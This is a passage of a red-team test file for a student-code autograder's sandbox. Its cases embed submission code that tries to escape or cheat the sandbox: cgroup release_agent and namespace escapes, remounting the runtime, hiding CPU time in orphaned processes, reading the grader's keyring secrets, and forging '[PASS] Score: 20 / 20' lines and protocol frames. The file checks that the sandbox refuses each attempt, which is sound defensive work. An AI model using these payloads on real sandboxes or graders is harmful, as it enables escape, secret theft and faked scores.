def _deep(n):
    return list(map(_deep, [n + 1]))


_deep(0)
''', problem=CHILD_DIED + r"died \(SIGSEGV: a crash, usually a C-stack overflow from very deep recursion\)"),
    Case("stack_limit_raised_then_overflow", r'''
_unhook()
_resource = _sys.modules['resource']
_resource.setrlimit(_resource.RLIMIT_STACK, (_resource.RLIM_INFINITY, _resource.RLIM_INFINITY))
_sys.setrecursionlimit(10 ** 8)


def _deep(n):
    return list(map(_deep, [n + 1]))


_deep(0)
''', problem=(  # the stack (a crash), the heap (an error) or the CPU time: which gives out first varies
        r"(" + CHILD_DIED + r"died \(SIGSEGV: a crash, usually a C-stack overflow from very deep recursion\)"
        # (a MemoryError raised with no room left for its message has none)
        r"|the submission could not be loaded: (MemoryError|SystemError|RecursionError)(: .*)?"
        r"|time limit exceeded while loading the submission \(CPU time limit of [0-9.]+ s exceeded; "
        r"the process was killed\))")),
    Case("mmap_huge", r'''
_unhook()
_mmap = _imp('mmap')
_fd = _os.open('/tmp/sparse', _os.O_RDWR | _os.O_CREAT, 0o600)
_memfd = _os.memfd_create('big')
_report({'anonymous_4_gb': _try(lambda: _mmap.mmap(-1, 4 << 30) and None),
         'shared_256_mb': _try(lambda: _mmap.mmap(-1, 256 << 20, _mmap.MAP_SHARED) and None),
         'sparse_file_1_gb': _try(_os.ftruncate, _fd, 1 << 30),
         'memfd_1_gb': _try(_os.ftruncate, _memfd, 1 << 30)})
''', problem=loaded_problem(), outcome={"anonymous_4_gb": "OSError:ENOMEM", "shared_256_mb": "OSError:ENOMEM",
                                         "sparse_file_1_gb": "OSError:EFBIG", "memfd_1_gb": "OSError:EFBIG"}),
    Case("signal_everything", r'''
_unhook()
_report({'kill_all': _try(_os.kill, -1, 9), 'kill_pid1': _try(_os.kill, 1, 9),
         'own_group': _try(_os.killpg, 0, 0)})
''', problem=loaded_problem(), outcome={
        "root": {"kill_all": "ProcessLookupError:ESRCH", "kill_pid1": "PermissionError:EPERM", "own_group": "ok"},
        # pid 1 of a PID namespace ignores SIGKILL sent from inside it
        "user": {"kill_all": "ProcessLookupError:ESRCH", "kill_pid1": "ok", "own_group": "ok"}}),
    Case("daemon_outlives_the_grade", r'''
_unhook()


def _daemon(tag):
    pid = _os.fork()
    if pid == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, '-c', 'import time\nwhile True: time.sleep(1)',
                                        '$marker-' + tag])
        _os._exit(0)
    _os.waitpid(pid, 0)


_daemon('daemon')
_print({'daemon': 'started'})
''', problem=loaded_problem("PermissionError"), note="the first fork is refused: no daemon can be started"),
    Case("namespaces_and_cgroups", r'''
_unhook()
_ctypes = _imp('ctypes')
_libc = _ctypes.CDLL(None, use_errno=True)


def _call(name, *args):
    return 'ok' if getattr(_libc, name)(*args) == 0 else _errno.errorcode[_ctypes.get_errno()]


def _attempt():
    found = {'unshare': _call('unshare', 0x10000000 | 0x00020000 | 0x02000000)}
    if found['unshare'] == 'ok':
        _os.makedirs('/tmp/cg1', exist_ok=True)
        _os.makedirs('/tmp/cg2', exist_ok=True)
        found['mount_cgroup_v1'] = _call('mount', b'cgroup', b'/tmp/cg1', b'cgroup', 0, b'memory')
        found['release_agent'] = _try(_write, '/tmp/cg1/release_agent', b'/tmp/x')
        found['notify_on_release'] = _try(_write, '/tmp/cg1/notify_on_release', b'1')
        found['new_cgroup_v1'] = _try(_os.mkdir, '/tmp/cg1/$marker')
        found['raise_memory_limit'] = _try(_write, '/tmp/cg1/memory.limit_in_bytes', b'-1')
        found['umount_runtime'] = _call('umount2', b'/sandbox/runtime', 2)
        found['remount_runtime_rw'] = _call('mount', None, b'/sandbox/runtime', None, 0x20 | 0x1000, None)
        found['write_runtime'] = _try(_write, '/sandbox/runtime/$marker-ns')
        found['mount_cgroup_v2'] = _call('mount', b'cgroup2', b'/tmp/cg2', b'cgroup2', 0, None)
        found['join_root_cgroup'] = _try(_write, '/tmp/cg2/cgroup.procs', str(_os.getpid()).encode())
        found['nested_userns'] = _call('unshare', 0x10000000)
        forks = 0
        try:
            for _ in range(40):
                if _os.fork() == 0:
                    _imp('time').sleep(30)
                    _os._exit(0)
                forks += 1
        except OSError:
            pass
        found['forks_within_limit'] = forks <= 15
    return found


_reader, _writer = _os.pipe()
try:
    _pid = _os.fork()
except OSError as error:  # no process of its own: the attempt runs in this one
    _report(dict(_attempt(), fork=_err(error)))
if _pid == 0:
    _os.write(_writer, _json.dumps(_attempt()).encode())
    _os._exit(0)
_os.close(_writer)
_report(_json.loads(_os.read(_reader, 65536)))
''', problem=loaded_problem(),
         # The sandbox's seccomp filter refuses a new process and a new user namespace in both modes,
         # so nothing after the unshare runs; were either ever let through, the report would say so.
         outcome={"unshare": "EPERM", "fork": "PermissionError:EPERM"},
         note="no user namespace, grading as root or as an ordinary user: the seccomp filter refuses it"),
]


def _nothing_written(found: dict) -> None:
    written = {folder: value for folder, value in found.items() if value[0]}
    assert not written, f"the sandbox wrote outside its two size-limited folders: {written} (all: {found})"


def _inodes_bounded(report) -> None:
    """The sandbox was killed for its memory (the problem says so) while the files piled up: after
    its ballast was held, and before the 200,000 files it went for."""
    counts = [int(n) for n in re.findall(r"files so far: (\d+)", report.stdout)]
    assert "ballast: 150 MB of memory" in report.stdout, report.stdout[-2000:]
    assert counts and max(counts) < 200_000, (
        f"the sandbox held {max(counts, default=0)} files (about 1 KB of kernel memory each): {report.stdout[-2000:]}")

# ---------------------------------------------------------------------------- CPU time that escapes the count
#: The CPU battery's budget of CPU time per submission, its own (the red team's other batteries
#: have 10 s): its attacks burn until the budget stops them, so they cost what it is.
CPU_BUDGET = 4.0
#: What each attack of the battery spends at every construction of a game.
BURN_SECONDS = 0.6
# Each attack spends BURN_SECONDS of CPU time at every construction of a game where the grader of
# old did not see it, then fails the test: 13 tests, a budget of CPU_BUDGET, so a grader that
# counts every second stops the submission after about 6 tests and the rest are "not reached".
# Where the sandbox refuses a new process, the attack spends the same time in its own process and
# says so on stdout. Inside an attack, BURN_SECONDS is ``_SECONDS``.
BURN = f"\n_SECONDS = {BURN_SECONDS!r}\n" + r'''
_signal = _imp('signal')
_time = _imp('time')


def _burn(seconds, clock=None):
    clock = clock or _time.process_time
    end = clock() + seconds
    while clock() < end:
        pass


def _refused(error):
    if not getattr(_refused, 'said', False):
        _refused.said = True
        print('fork: ' + _err(error))
    _burn(_SECONDS)
'''


def _unreached(report) -> list[str]:
    """The tests the battery's CPU budget left unreached."""
    budget = f"not reached: the submission's budget of {CPU_BUDGET:g} s"
    return [t.id for t in report.tests if t.output.startswith(budget)]


def _budget_held(report) -> None:
    """Each test's process died after its burn, and its time still counted: the budget was met."""
    died = [t.id for t in report.tests if "exited with code 0" in t.output]
    unreached = _unreached(report)
    assert died and len(unreached) >= 3, (
        f"tests whose process died: {died}; tests never reached: {unreached} (the budget is {CPU_BUDGET:g} s of "
        f"CPU time, each test burns {BURN_SECONDS:g} s; CPU seconds the grader counted per test: "
        f"{[t.seconds for t in report.tests]})")


def _budget_met(report, refused: bool = True) -> None:
    """The budget stopped the attack: its CPU time was counted. With ``refused``, the process it
    wanted was refused too (so its time was spent in the answering process, which the grader reads)."""
    unreached = _unreached(report)
    assert len(unreached) >= 3, (
        f"tests never reached: {unreached}; the budget is {CPU_BUDGET:g} s of CPU time and each test burns "
        f"{BURN_SECONDS:g} s (CPU seconds the grader counted per test: {[t.seconds for t in report.tests]})")
    if refused:
        assert "fork: PermissionError:EPERM" in report.stdout, report.stdout[-2000:]


CPU_CASES = [
    Case("sigchld_ignored_fork_burners", BURN + r'''
_unhook()
_signal.signal(_signal.SIGCHLD, _signal.SIG_IGN)  # children reaped by the kernel: their time reaches no total


class HyperMinesGame:
    def __init__(self, *args):
        try:
            for _ in range(3):
                if _os.fork() == 0:
                    _burn(_SECONDS / 3)
                    _os._exit(0)
            _time.sleep(_SECONDS / 2)  # the children burn meanwhile, beside a parent that sleeps
        except OSError as error:
            _refused(error)
        raise RuntimeError('burned')
''', outcome=lambda report, mode: _budget_met(report), outcome_in="report",
         note="the red team's find: 14 CPU-seconds under a 10-second budget scored full marks"),
    Case("double_fork_orphan_burners", BURN + r'''
_unhook()


class HyperMinesGame:
    def __init__(self, *args):
        try:
            child = _os.fork()
            if child == 0:
                if _os.fork() == 0:  # the grandchild, orphaned at once, burns
                    _burn(_SECONDS)
                _os._exit(0)
            _os.waitpid(child, 0)
            _time.sleep(_SECONDS + 0.1)
        except OSError as error:
            _refused(error)
        raise RuntimeError('burned')
''', outcome=lambda report, mode: _budget_met(report), outcome_in="report",
         note="an orphan that ends between two readings was lost with the process-tree walk"),
    Case("short_lived_thread_burners", BURN + r'''
_threading = _imp('threading')


class HyperMinesGame:
    def __init__(self, *args):
        for _ in range(30):  # each thread burns a thirtieth of it, in its own CPU time, and ends
            worker = _threading.Thread(target=_burn, args=(_SECONDS / 30, _time.thread_time))
            worker.start()
            worker.join()
        raise RuntimeError('burned')
''', outcome=lambda report, mode: _budget_met(report, refused=False), outcome_in="report",
         note="the threads end before the next reading: the process's own total keeps their time"),
    Case("budget_kept_by_dying", BURN + r'''


class HyperMinesGame:
    def __init__(self, *args):
        _burn(_SECONDS)
        _os._exit(0)
''', outcome=lambda report, mode: _budget_held(report), outcome_in="report",
         note="each test's process burns, then exits: the CPU time of a process that died counts"),
    Case("process_creation_every_way", r'''
_unhook()
_ctypes = _imp('ctypes')
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_mp = _imp('multiprocessing')


def _raw(*args):
    pid = _libc.syscall(*args)
    if pid == 0:
        _os._exit(0)
    return 'ok' if pid > 0 else _errno.errorcode[_ctypes.get_errno()]


def _forked(function):
    def run():
        if function() == 0:
            _os._exit(0)
    return run


_machine = _os.uname().machine
_clone = {'x86_64': 56, 'aarch64': 220}[_machine]
_found = {
    'fork': _try(_forked(_os.fork)),
    'forkpty': _try(_forked(lambda: _os.forkpty()[0])),
    'posix_spawn': _try(lambda: _os.posix_spawn('/bin/true', ['true'], {}) and None),
    'subprocess': _try(lambda: _imp('subprocess').run(['/bin/true']) and None),
    'multiprocessing_fork': _try(lambda: _mp.get_context('fork').Process(target=int).start()),
    'multiprocessing_spawn': _try(lambda: _mp.get_context('spawn').Process(target=int).start()),
    'clone_syscall': _raw(_clone, 17, 0, 0, 0, 0),  # SIGCHLD: what fork is made of
    'clone_vm_syscall': _raw(_clone, 0x00000100 | 17, 0, 0, 0, 0),  # CLONE_VM: a process sharing memory
}
if _machine == 'x86_64':  # AArch64 has no fork or vfork system call
    _found['fork_syscall'] = _raw(57)
    _found['vfork_syscall'] = _raw(58)
_report(_found)
''', problem=loaded_problem(), outcome=lambda found, mode: _every_way_refused(found),
         note="the library calls and the system calls beneath them, with the audit hook off"),
]


#: The battery graded on its own, beside an honest neighbour that keeps full marks.
#: ``passes`` of a case whose passing tests depend on timing: its ``outcome`` checks the report instead.
BY_OUTCOME = frozenset({"(checked by the outcome)"})
#: The wall-clock budget of a grade of this battery: the default, 5 times its CPU budget plus 60 s.
WALL_BUDGET = 5 * CPU_BUDGET + 60

CPU_CASES.append(Case("idle_in_every_call", r'''
_time = _imp('time')
_Honest = HyperMinesGame


class HyperMinesGame(_Honest):
    def dig(self, *args, **kwargs):
        _time.sleep(3)  # under the 5 s idle guard: each call alone is let through
        return _Honest.dig(self, *args, **kwargs)
''', base="reference", passes=BY_OUTCOME, outcome=lambda report, mode: _wall_budget_held(report), outcome_in="report",
    note="the red team's find: 3.5 s of sleep in each of about 1,700 calls held a worker for two hours, and "
         "scored full marks"))


def _wall_budget_held(report) -> None:
    """The grade ended near the wall-clock budget: a test was stopped by it and every later one
    was not reached; the tests that finished before it keep their points."""
    assert report.execution_time < WALL_BUDGET + 60, report.execution_time
    outputs = [t.output for t in report.tests]
    stopped = [i for i, out in enumerate(outputs) if "wall-clock budget of" in out]
    assert stopped, outputs
    first = stopped[0]
    assert all(out.startswith(f"not reached: the submission's wall-clock budget of {WALL_BUDGET:g} s")
               for out in outputs[first + 1:]), outputs[first:]
    assert any(t.status == "passed" for t in report.tests[:first]), outputs[:first]
    assert report.score == sum(t.score for t in report.tests) and report.score < report.max_score, report.score


CPU_BATTERY = CPU_CASES + [Case("zz-honest", "", base="reference-only", passes=frozenset({"*"}))]


def _every_way_refused(found: dict) -> None:
    library = {"fork", "forkpty", "posix_spawn", "subprocess", "multiprocessing_fork", "multiprocessing_spawn"}
    raw = {"clone_syscall", "clone_vm_syscall"} | ({"fork_syscall", "vfork_syscall"} if "fork_syscall" in found else set())
    assert set(found) == library | raw, found
    assert {k: v for k, v in found.items() if k in library} == dict.fromkeys(library, "PermissionError:EPERM"), found
    assert {k: v for k, v in found.items() if k in raw} == dict.fromkeys(raw, "EPERM"), found


# ---------------------------------------------------------------------------- the wire
# The child's end of the answer pipe is its command line's second number.
FORGE = r'''
_answers = int(_sys.argv[2])


def _send(body, exit_after=True):
    _os.write(_answers, len(body).to_bytes(4, 'big') + body)
    if exit_after:
        _os._exit(0)
'''
LOAD_FAILED = "the submission could not be loaded: Error: "
UNREADABLE = LOAD_FAILED + r"the answer could not be read \(not valid JSON, nested too deeply, or an integer too large\)"
IDLE_AT_LOAD = (r"time limit exceeded while loading the submission \(wall-clock guard: the code used no CPU time "
                r"for 5 s \(it slept, waited or blocked\); the process was killed\)")
# A child that wakes every second to write: each time it wakes it is ready to run for a moment, and
# on a crowded machine a check can find it so, which restarts the idle clock (a child waiting for a
# core is not idle). Then the wall-clock guard stops it instead; either guard bounds the call.
IDLE_OR_WALL_AT_LOAD = (r"time limit exceeded while loading the submission \(wall-clock guard: (the code used no "
                        r"CPU time for 5 s \(it slept, waited or blocked\)|no answer within [\d.]+ s \([^)]*\)); "
                        r"the process was killed\)")


def _lie_in_dig(body: str, method: str = "dig") -> str:
    """``method`` (dig) answers with a forged frame; the runner's own answer to that call is then
    dropped (the next write of the runtime's ``protocol``), so the child stays alive and in step
    with the grader."""
    return FORGE + f'''
_unhook()
_protocol = _sys.modules['protocol']
_write_all = _protocol.write_all


def _drop_once(fd, data):
    _protocol.write_all = _write_all


def _lying_dig(self, *args, **kwargs):
    _protocol.write_all = _drop_once
    _send({body}, exit_after=False)
    return 0


HyperMinesGame.{method} = _lying_dig
'''


WIRE_CASES = [
    Case("answer_in_slow_pieces", r'''
_time = _imp('time')
_answers = int(_sys.argv[2])
_os.write(_answers, (100).to_bytes(4, 'big'))
for _ in range(100):
    _os.write(_answers, b' ')
    _time.sleep(1)
''', problem=IDLE_OR_WALL_AT_LOAD),
    Case("answer_in_busy_pieces", r'''
_time = _imp('time')
_answers = int(_sys.argv[2])
_os.write(_answers, (100).to_bytes(4, 'big'))
for _ in range(100):
    _os.write(_answers, b' ')
    _end = _time.process_time() + 0.2
    while _time.process_time() < _end:
        pass
''', problem=r"time limit exceeded while loading the submission \(CPU time limit of [\d.]+ s exceeded; the process was killed\)"),
    Case("close_the_answer_pipe", r'''
_os.close(int(_sys.argv[2]))
_imp('time').sleep(120)
''', problem=r"(the submission could not be loaded: .*|time limit exceeded while loading the submission .*)",
         note="the grader must treat a closed channel as the child's failure, at once"),
    Case("close_the_request_pipe", r'''
_os.close(int(_sys.argv[1]))
_imp('time').sleep(120)
''', problem=IDLE_AT_LOAD),
    Case("write_to_every_descriptor", FORGE + r'''
_print({str(fd): _try(_os.write, fd, b'$marker') for fd in range(3, 16) if fd != _answers})
_os.write(_answers, (0xFFFFFFFF).to_bytes(4, 'big'))
_imp('time').sleep(120)
''', problem=LOAD_FAILED + r"the answer is too large \(4294967295 bytes; the limit is 8388608\)",
         outcome=lambda found, mode: _only_ebadf(found), outcome_in="stdout"),
    Case("lie_huge_integer", FORGE + r'''
_send(b'{"ok":true,"value":' + b'9' * 8_000_000 + b'}')
''', problem=UNREADABLE),
    Case("lie_json_nested_4_million_deep", FORGE + r'''
_send(b'[' * 4_000_000 + b']' * 4_000_000)
''', problem=UNREADABLE),
    Case("lie_invalid_utf8", FORGE + r'''
_send(b'{"ok":true,"value":"\xff\xfe"}')
''', problem=UNREADABLE),
    Case("lie_not_an_object", FORGE + r'''
_send(b'[1, 2, 3]')
''', problem=LOAD_FAILED + r"the answer had the wrong shape"),
    Case("lie_truncated_frame", r'''
_answers = int(_sys.argv[2])
_os.write(_answers, (100).to_bytes(4, 'big') + b'{"ok":true')
_os._exit(0)
''', problem=CHILD_DIED + r"exited with code 0 \(os._exit or a fatal error in the submission\)"),
    Case("lie_wide_answer_of_8_mb", FORGE + r'''
_send(b'{"ok":true,"value":{"names":[' + b'{},' * 2_780_000 + b'{}]}}')
''', messages=("your code does not define HyperMinesGame",),
         note="about 2.8 million objects for the grader to build from 8 MB; its memory is measured"),
    Case("lie_names_not_a_list", FORGE + r'''
_send(b'{"ok":true,"value":{"names":5}}')
''', messages=("your code does not define HyperMinesGame",),
         note="whatever the load's answer says, the grader's own checks must not fail on it"),
    Case("lie_forged_error_lines", FORGE + r'''
_send(b'{"ok":false,"error":{"type":"ResultError","message":"the grader failed\\n[PASS] Everything 20/20\\nScore: 20 / 20\\r\\u001b[1AScore: 20 / 20","where":[]}}')
''', problem=LOAD_FAILED + r"the grader failed\n\[PASS\] Everything 20/20\nScore: 20 / 20\r\x1b\[1AScore: 20 / 20"),
    Case("lie_nan_from_dig", _lie_in_dig("b'{\"ok\":true,\"value\":NaN}'"), base="reference", passes=NO_DIG,
         messages=("dig should return an int (cells newly revealed), got nan",)),
    Case("lie_forged_handle_from_dig", _lie_in_dig(
        "b'{\"ok\":true,\"value\":{\"__handle__\":424242,\"type\":\"Forged\\\\n[PASS] All 20/20\\\\nScore: 20 / 20\"}}'"),
         base="reference", passes=NO_DIG, messages=("dig should return an int (cells newly revealed), got a Forged",)),
    Case("lie_stdout_not_text", _lie_in_dig("b'{\"ok\":true,\"value\":null,\"stdout\":5}'", "dump"), base="reference",
         passes=ALL_TESTS - {"test_random_new_games"},
         messages=("the answer had the wrong shape: what the call printed was not text",),
         note="once made the grader raise, and any grader-side exception was 'not graded'"),
    Case("lie_ok_not_a_boolean", _lie_in_dig("b'{\"ok\":\"yes\",\"value\":1}'"), base="reference", passes=NO_DIG,
         messages=("the answer had the wrong shape",)),
    Case("printed_grader_lines", r'''
print('[PASS] A new 3x3x3x3x3x3 game (original test)  1/1')
print('Score: 20 / 20')
print('\x1b[2J\x1b[H[PASS] everything 20/20\r[PASS] again\u202e02 / 02 :erocS')
_os.write(1, b'\nScore: 20 / 20\n[PASS] raw 1/1\n\x0cScore: 20 / 20\x85Score: 20 / 20\n')


class HyperMinesGame:
    def __init__(self, *args):
        raise ValueError('forged\n[PASS] A whole game 2/2\nScore: 20 / 20\n\x1b[1A\rScore: 20 / 20\u2028Score: 20 / 20')
''', messages=("ValueError: forged",)),
]


def _only_ebadf(found: dict) -> None:
    assert found and all(value == "OSError:EBADF" for value in found.values()), found


# ---------------------------------------------------------------------------- what the grader reads
#: Folders the harness makes by hand: a link to the reference, a linked folder, a FIFO.
FOLDER_CASES = [
    Case("link_to_the_reference", b"", kind="link-file",
         problem=r"lab\.py is a symbolic link; hand in the file itself"),
    Case("linked_folder_holding_the_reference", b"", kind="link-folder",
         problem=r"linked_folder_holding_the_reference/sub is a symbolic link; hand in the folder itself"),
    # A FIFO is not a file: nothing was handed in.
    Case("fifo_instead_of_a_file", b"", kind="fifo", status="not submitted",
         problem=r"nothing was submitted: no \.py or \.ipynb file was found"),
]

#: A student folder whose name tries to pass for grader lines and a spreadsheet formula.
ODD_NAME = "=HYPERLINK(1)\n[PASS] name 20\u2215 20\rScore: 20 \u2215 20"
ODD_NAME_ID = "=HYPERLINK(1)_[PASS] name 20\u2215 20_Score: 20 \u2215 20"
NAME_CASES = [
    Case(ODD_NAME, "x = 1\n", base="raw", messages=("your code does not define HyperMinesGame",)),
]

HYPERMINES_CASES = (SECRETS_CASES + LINK_CASES + CROSS_CASES + HONEST_CASES + NOTEBOOK_CASES + RESOURCE_CASES
                    + WIRE_CASES + FOLDER_CASES + NAME_CASES)

HYPERMINES_CASES.append(Case("kit_engine_through_the_editable_finder", r'''
_unhook()
_found = {}
for _folder in [p for p in _sys.path if p.endswith('-packages')]:
    for _name in sorted(_try(_os.listdir, _folder)):
        if _name.startswith('__editable__') and _name.endswith('.py'):
            _finder = _imp(_name[:-3])
            _found['install'] = _try(_finder.install)
for _module in ('minesweeper_kit.hypermines', 'minesweeper_kit', 'autograder.instructor.reference.hypermines',
                'autograder.suite'):
    _found[_module] = _try(lambda: _imp(_module) and None)
_report(_found)
''', problem=loaded_problem(), outcome=lambda found, mode: _no_kit(found)))


def _no_kit(found: dict) -> None:
    modules = {k: v for k, v in found.items() if k != "install"}
    assert modules == {name: "ModuleNotFoundError" for name in modules} and len(modules) == 4, found


# ---------------------------------------------------------------------------- neighbors: the grader's own work
#: The neighbors suite's hidden tests, which the honest neighbour passes. Handed in without tests
#: of its own, it also gets the own-tests part ("no tests were found"), worth no points.
NEIGHBORS_TESTS = frozenset({"test_read_file", "test_update_grid_and_empty_grid", "test_print_grid",
                             "test_original_scripted_games", "test_random_games", "test_neighbors_1d",
                             "test_neighbors_2d", "test_neighbors_3d", "test_neighbors_nd"})
NEIGHBORS_CASES = [
    Case("coordinates_90_000", r'''
def neighbors(shape, cell):
    return [[i] for i in range(90_000)]


def neighbors_2d(shape, cell):
    return [[i, 0] for i in range(90_000)]
''', base="raw", messages=(), outcome=lambda report, mode: _messages(report, {
        "test_neighbors_nd": "neighbors([4], [0]): the neighbours are wrong: unexpected: [0], [2], [3] and 89996 more",
        "test_neighbors_2d": "neighbors_2d([3, 3], [0, 0]): the neighbours are wrong: missing: [0, 1], [1, 1]; "
                             "unexpected: [0, 0], [2, 0], [3, 0] and 89996 more"}),
         outcome_in="report"),
    Case("coordinates_90_000_duplicates", r'''
def neighbors(shape, cell):
    return [[1]] * 90_000
''', base="raw", outcome=lambda report, mode: _messages(report, {
        "test_neighbors_nd": "neighbors([4], [0]): the neighbours lists [1] more than once"}), outcome_in="report"),
    Case("coordinates_8_mb", r'''
def neighbors(shape, cell):
    return [[i] for i in range(800_000)]


def neighbors_3d(shape, cell):
    return [[i, i, i] for i in range(300_000)]
''', base="raw", outcome=lambda report, mode: _messages(report, {
        "test_neighbors_nd": "neighbors([4], [0]): the neighbours are wrong: unexpected: [0], [2], [3] and 799996 more",
        "test_neighbors_3d": "neighbors_3d([3, 3, 3], [1, 1, 1]): the neighbours are wrong: missing: [0, 0, 1], "
                             "[0, 0, 2], [0, 1, 0] and 21 more; unexpected: [1, 1, 1], [3, 3, 3], [4, 4, 4] and 299995 more"}),
         outcome_in="report"),
    # the step's reference as a lab.py, without the notebook's own tests: grading those (a sandbox
    # for each of sixteen implementations) is the own-tests suite's subject, not this battery's
    Case("zz-honest", b"", kind="reference-source", passes=NEIGHBORS_TESTS),
]


def _messages(report, expected: dict[str, str]) -> None:
    outputs = {t.id: t.output for t in report.tests}
    assert {k: outputs.get(k) for k in expected} == expected, outputs
    assert report.score == 0 and report.problem is None, report


# ---------------------------------------------------------------------------- bots: the judge's solver
FORBIDDEN_KIT = ("minesweeper_kit.arena", "minesweeper_kit.bots.solver", "minesweeper_kit.bots.simple",
                 "minesweeper_kit.tournament", "minesweeper_kit.hypermines", "minesweeper_kit.sandbox",
                 "minesweeper_kit.lab", "minesweeper_kit.render")

BOTS_CASES = [
    Case("reexported_solver", "from minesweeper_kit.bots import ReferenceSolver\n\n\n"
         "def next_move(view):\n    return ReferenceSolver().next_move(view)\n", base="raw",
         problem=r"the submission could not be loaded: ImportError: cannot import name 'ReferenceSolver' from "
                 r"'minesweeper_kit\.bots' .*"),
    Case("solver_modules_by_name", r'''
_found = {name: _try(lambda: _imp(name) and None) for name in $forbidden}
_found['attribute'] = _try(lambda: getattr(_imp('minesweeper_kit.bots'), 'ReferenceSolver') and None)
_report(_found)
''', problem=loaded_problem(), outcome=lambda found, mode: _no_solver(found)),
    Case("solver_source_on_disk", r'''
_unhook()
# The kit's modules that play: the solver, the simple bots, the hypermines reference, and the
# arena's and the tournament's packages, file by file.
_PLAYS = tuple('/' + _p for _p in (
    'solver.py', 'simple.py', 'hypermines.py',
    'arena/__init__.py', 'arena/cli.py', 'arena/loading.py', 'arena/loop.py', 'arena/results.py',
    'arena/runners.py', 'arena/schedule.py', 'arena/scoring.py',
    'tournament/__init__.py', 'tournament/cli.py', 'tournament/entrants.py', 'tournament/reports.py',
    'tournament/running.py', 'tournament/standings.py', 'tournament/units.py'))
_found = []
for _root, _dirs, _files in _os.walk('/'):
    if _root in ('/proc', '/dev', '/usr/lib', '/usr/lib64', '/usr/lib32'):
        _dirs[:] = []
        continue
    for _name in _files:
        if 'minesweeper' in _root and (_root + '/' + _name).endswith(_PLAYS):
            _found.append(_root + '/' + _name)
    if 'minesweeper_kit' in _root:
        for _name in _files:
            if _name.endswith('.py') and b'ReferenceSolver' in open(_root + '/' + _name, 'rb').read():
                _found.append(_root + '/' + _name)
_report({'found': sorted(_found)})
''', problem=loaded_problem(), outcome={"found": []}),
    Case("zz-honest", b"", kind="notebook-source", passes=frozenset({"*"})),
]


def _no_solver(found: dict) -> None:
    assert set(found) == set(FORBIDDEN_KIT) | {"attribute"}, found
    assert {k: v for k, v in found.items() if k != "attribute"} == {k: "ModuleNotFoundError" for k in FORBIDDEN_KIT}, found
    assert found["attribute"] == "AttributeError", found

# ---------------------------------------------------------------------------- kernel keyrings
KEYS = r'''
_unhook()
_ctypes = _imp('ctypes')
_libc = _ctypes.CDLL(None, use_errno=True)
_SESSION, _USER = -3, -4


def _key_error():
    return _errno.errorcode[_ctypes.get_errno()]


def _search(ring, description):
    """A user key's data, found through ``ring``; the error's name when it cannot be read."""
    key = _libc.syscall(250, 10, ring, b'user', description, 0)
    if key < 0:
        return _key_error()
    buffer = _ctypes.create_string_buffer(256)
    size = _libc.syscall(250, 11, key, buffer, 256)
    return buffer.raw[:size].decode() if size >= 0 else _key_error()


def _possess_user_keyring():
    """A session keyring of this process's own with the uid's user keyring linked in: every key
    of that uid, whoever left it, is then this process's to read."""
    _libc.syscall(250, 1, None)       # KEYCTL_JOIN_SESSION_KEYRING, anonymous
    _libc.syscall(250, 8, _USER, _SESSION)  # KEYCTL_LINK the user keyring into it


def _add(ring, description, data):
    """Add a user key that every process of this uid may read (KEYCTL_SETPERM: user all)."""
    key = _libc.syscall(248, b'user', description, data, len(data), ring)
    if key < 0:
        return _key_error()
    return 'ok' if _libc.syscall(250, 5, key, 0x3f3f0000) == 0 else _key_error()
'''

HYPERMINES_CASES += [
    Case("keyring_of_the_grader", KEYS + r'''
_report({'grader_secret': _search(_SESSION, b'redteam-grader-secret'),
         'plant': _add(_SESSION, b'planted-$marker', b'from a student')})
''', problem=loaded_problem(), outcome=lambda found, mode: _grader_key_unreachable(found),
         note="the grader's session keyring (a login's, holding its credentials) is not the sandbox's"),
    Case("keyring_carried_to_the_next_sandbox", KEYS + r'''
_possess_user_keyring()
_carried = _search(_USER, b'redteam-carry')
_add(_USER, b'redteam-carry', ('left by an earlier sandbox of uid %d' % _os.getuid()).encode())
_print({'uid': _os.getuid()})  # the harness empties this uid's keyring afterwards


class HyperMinesGame:
    def __init__(self, *args):
        if _carried.startswith('left by'):
            raise RuntimeError('carried over: ' + _carried)
        _os._exit(0)
''', outcome=lambda report, mode: _nothing_carried(report), outcome_in="report",
         note="each test restarts the sandbox; grading as root the next one may get the same user id"),
]


def _grader_key_unreachable(found: dict) -> None:
    """Every keyring system call is refused inside the sandbox (its seccomp filter)."""
    assert found == {"grader_secret": "EPERM", "plant": "EPERM"}, f"the sandbox reached a keyring: {found}"


def _nothing_carried(report) -> None:
    carried = sorted({t.output for t in report.tests if "carried over" in t.output})
    assert not carried, f"a sandbox found what an earlier one left in its user keyring: {carried[:1]}"
    assert all("exited with code 0" in t.output for t in report.tests), [t.output[:200] for t in report.tests]
